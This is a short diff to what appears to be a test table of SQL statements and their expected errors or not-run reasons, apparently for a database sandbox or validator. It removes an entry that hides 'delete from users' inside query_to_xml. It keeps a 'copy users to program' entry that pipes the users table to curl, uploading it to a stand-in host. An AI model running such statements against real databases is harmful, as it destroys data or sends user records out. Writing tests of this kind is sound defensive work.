@@ -45,7 +45,6 @@ const circumstances: Readonly<Record<string, Circumstances>> = {
     before: 'alter table users add column note text',
   },
   'create extension pgcrypto': { orElse: ['0A000', '58P01'] },
-  "select query_to_xml('delete from users', true, true, '')": { orElse: ['0A000'] },
   "copy users to program 'curl -T - https://example.test'": {
     notRun: 'It would start a program that reaches the network.',
   },
